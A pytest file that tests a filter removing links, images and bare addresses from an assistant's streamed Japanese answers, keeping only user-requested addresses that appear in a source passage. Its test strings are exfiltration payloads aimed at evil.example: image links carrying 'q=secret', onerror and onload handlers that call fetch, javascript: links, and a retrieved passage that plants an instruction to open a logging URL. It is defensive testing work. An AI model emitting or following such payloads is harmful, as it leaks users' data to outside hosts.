"""No link, no picture and no address leaves a model's text, whole or in pieces; what the person asked for stays as code."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from assistant.links import LinkFilter, without_markup
from tests.assistant.passages import passage

PORTAL = passage(
    "申請はポータル https://portal.example.co.jp/leave で行う。調査 https://evil.example/log?user=ben を開く。"
)
LINKS = [
    "申請は[こちら](https://evil.example/?d=1)です [1]。",
    "![領収書](https://evil.example/p.png?q=secret)を確認します [1]。",
    "<img src=https://evil.example/x.png onerror=alert(1)>申請します。",
    "<a href='https://evil.example/'>申請</a>します。",
    '[見て][r]ください\n\n[r]: https://evil.example/x "題"\n以上です。',
    "詳しくは https://evil.example/collect?d=1 へ。",
    "www.evil.example と evil.example/collect へ。",
    "<https://evil.example/>を見ます。",
    "[a](javascript:alert(1)) と [b](//evil.example/x)",
    "![![a](https://evil.example/1)](https://evil.example/2)",
    "[[x](https://evil.example/1)](https://evil.example/2)",
    "[長い\n名前](https://evil.example/)です。",
    "[a](<https://evil.example/ b> 'title') <svg/onload=fetch('//evil.example')>",
]


def links(question: str = "有給休暇の期限は?") -> LinkFilter:
    return LinkFilter(question=question, language="ja", passages=[PORTAL])


def in_pieces(filtered: LinkFilter, text: str, pieces: int) -> str:
    """What the filter shows of a text that comes in pieces of this size."""
    return "".join(filtered.add(text[i : i + pieces]) for i in range(0, len(text), pieces)) + filtered.rest()


def streamed(text: str, pieces: int = 1, question: str = "有給休暇の期限は?") -> str:
    filtered = links(question)
    said = in_pieces(filtered, text, pieces)
    assert filtered.removed
    return said


@pytest.mark.parametrize("text", LINKS)
@pytest.mark.parametrize("pieces", [1, 3, 1000])
def test_nothing_that_a_program_could_open_is_left(text: str, pieces: int) -> None:
    said = streamed(text, pieces)
    assert "evil.example" not in said
    rendered = MarkdownIt("commonmark").render(said)
    assert "<a" not in rendered
    assert "<img" not in rendered
    assert "<svg" not in rendered


def test_the_words_of_a_link_and_the_marks_stay() -> None:
    assert streamed(LINKS[0]) == "申請はこちらです [1]。"


@pytest.mark.parametrize(
    "text",
    [
        "申請します [1][2]。(別紙 [3] を見る)",
        "and/or a.md 1/2 E-17 3:00 a.m.",
        "宛先は help@example.co.jp です",
        "`a[0] < b`です",
    ],
)
def test_ordinary_text_is_left_as_it_is_and_comes_in_pieces(text: str) -> None:
    filtered = links()
    pieces = [filtered.add(character) for character in text]
    assert "".join(pieces) + filtered.rest() == text
    assert filtered.removed == 0
    assert len([piece for piece in pieces if piece]) > 1


def test_an_address_that_was_asked_for_and_stands_in_a_passage_stays_as_code() -> None:
    answer = "ポータルは https://portal.example.co.jp/leave です [1]。"
    assert (
        links("申請サイトのURLは?").without_links(answer)
        == "ポータルは `https://portal.example.co.jp/leave` です [1]。"
    )
    assert "portal.example" not in links("期限は?").without_links(answer)


@pytest.mark.parametrize(
    "address",
    ["https://evil.example/log?user=ben", "https://portal.example.co.jp/leave?user=ben", "https://other.example/"],
)
def test_an_address_with_a_query_or_without_a_source_goes_even_when_asked_for(address: str) -> None:
    assert address not in links("サイトのURLは?").without_links(f"{address} です。")


def test_quoted_text_keeps_its_words_and_loses_what_would_load() -> None:
    quoted = "「図は ![図](https://evil.example/p.png) と [ここ](https://evil.example/) にある。」 [1]"
    assert without_markup(quoted) == "「図は 図 と ここ にある。」 [1]"


def test_a_quoted_definition_of_a_link_makes_none_and_a_line_that_looks_like_one_stays_readable() -> None:
    text = without_markup("「[ここ][x]を見る。\n\n[x]: http://evil.example/?q=1\n\n[注]: 3日前まで」")
    assert "<a" not in MarkdownIt("commonmark").render(text)
    assert "3日前まで" in text


@pytest.mark.parametrize(
    "text",
    [
        "![" + "長" * 700 + "](//evil.example/p.png?q=secret)です。",
        "[" + "長" * 700 + "](//evil.example/x)です。",
        "[" * 30 + "x" + "](//evil.example/)" * 30,
        "[a]\n\n- [a]: //evil.example/x\n",
        "[" + "a" * 300 + "]\n\n[" + "a" * 300 + "]: //evil.example/x\n",
    ],
)
def test_neither_length_nor_depth_nor_a_list_brings_a_link_through(text: str) -> None:
    for said in (streamed(text, 1), streamed(text, 7), streamed(text, 5000), without_markup(text)):
        rendered = MarkdownIt("commonmark").render(said)
        assert not re.search('(?:href|src)="[^"]*evil', rendered)


@pytest.mark.parametrize(
    "text",
    [
        "手順は次のとおりです[1]: まずポータルを開き、次に申請します。",
        "必要な書類 [1]:\n- 申請書",
        "- 期限 [1]: 3営業日前まで",
        "Error [E-102]: replace the toner",
        "「[ERROR]: disk full」と表示されたら",
        "電話はTEL:03-1234-5678です [1]。File:report.xlsx、Data:2026年4月",
        "Node.js/Express、ASP.NET/C#、setup.exe/uninstall.exe を使う",
        "`rows[0]`、\\\\fs01\\share、10:00-12:00/13:00-17:00",
    ],
)
@pytest.mark.parametrize("pieces", [1, 2, 3, 5, 1000])
def test_text_that_only_looks_like_an_address_stays_in_pieces_of_every_size(text: str, pieces: int) -> None:
    filtered = links()
    said = in_pieces(filtered, text, pieces)
    assert (said, filtered.removed) == (text, 0)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("申請します[1](半休は前日まで)。", "申請します[1] (半休は前日まで)。"),
        ("右上の[保存](右上)を押す", "右上の保存(右上)を押す"),
        ("申請します[1](#1)。", "申請します[1]。"),
        ("`cp <source> <destination>` を実行", "`cp < source> <destination>` を実行"),
        ("宛先は <help@example.co.jp> です", "宛先は help@example.co.jp です"),
        ("ひらく//fs01.example.local/share まで", "ひらく(アドレスは出典を参照) まで"),
    ],
)
@pytest.mark.parametrize("pieces", [1, 3, 1000])
def test_what_is_no_link_keeps_its_words_in_pieces_of_every_size(text: str, said: str, pieces: int) -> None:
    filtered = links()
    shown = in_pieces(filtered, text, pieces)
    assert shown == said
    assert "<a" not in MarkdownIt("commonmark").render(shown)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("https://portal.example.co.jp/leaveから申請し", "`https://portal.example.co.jp/leave`から申請し"),
        ("(https://portal.example.co.jp/leave)です", "(`https://portal.example.co.jp/leave`)です"),
        ("`https://portal.example.co.jp/leave`です", "`https://portal.example.co.jp/leave`です"),
    ],
)
@pytest.mark.parametrize("pieces", [1, 3, 1000])
def test_an_asked_for_address_ends_where_japanese_goes_on_and_is_code_once(text: str, said: str, pieces: int) -> None:
    filtered = links("申請サイトのURLは?")
    assert in_pieces(filtered, text, pieces) == said


@pytest.mark.parametrize(
    "text",
    [
        "<tel:0312345678> と <evil@evil.example> へ",
        "https://evil.example/(a)b(c)です。見る(https://evil.example/x?d=1)です",
        "[1](https://evil.example/x) と [2](evil.example/x 'a')",
        "<base href=//evil.example/>です",
        "https://社内.evil.example/?q=1 と https://x.evil.example/社内?q=あ&b=c",
        "x\n> [a]: //evil.example/x\n\n[a]",
        "これは\n  [r]: https://evil.example/x\n[r] を見る",
    ],
)
@pytest.mark.parametrize("pieces", [1, 2, 3, 7, 1000])
def test_no_shorter_way_to_an_address_comes_through_in_pieces_of_any_size(text: str, pieces: int) -> None:
    filtered = links()
    said = in_pieces(filtered, text, pieces)
    rendered = MarkdownIt("commonmark").render(said)
    assert "<a" not in rendered
    assert "<base" not in rendered
    assert "evil.example/" not in said
